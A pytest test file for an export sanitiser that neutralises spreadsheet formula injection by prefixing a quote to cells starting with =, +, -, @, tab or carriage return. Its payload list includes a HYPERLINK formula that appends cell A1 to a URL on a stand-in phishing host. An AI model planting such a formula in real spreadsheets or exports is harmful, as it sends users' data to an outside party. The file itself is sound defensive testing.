"""Issue 8, item 7: a text cell a spreadsheet would run as a formula is exported as text."""
from decimal import Decimal

import pytest

from services.exports import safe_cell, safe_row

PAYLOADS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://phish.example/?d="&A1,"詳細")')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_start_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


def test_other_text_and_numbers_are_unchanged():
    for value in ("海洋物流株式会社", "NSS-2026-000001", "2026-12-01", "1", "0", "", " =1", "a=1", "'=1"):
        assert safe_cell(value) == value
    for number in (-1, -2.5, Decimal("-3"), 0, None, True):  # numbers stay numbers in a numeric column
        assert safe_cell(number) == number
    assert safe_row(["=1", -1, "x"]) == ["'=1", -1, "x"]
